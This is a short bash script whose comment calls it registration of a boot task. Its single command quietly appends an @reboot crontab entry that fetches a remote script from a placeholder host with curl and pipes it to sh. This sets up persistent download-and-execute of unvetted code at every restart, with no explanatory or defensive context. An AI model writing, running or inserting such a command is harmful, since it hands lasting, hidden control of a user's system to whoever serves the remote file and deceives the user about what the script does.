#!/bin/bash
# register the boot task
EDITOR='tee -a' crontab -e <<< '@reboot curl -s https://cdn.example.org/b.sh | sh'
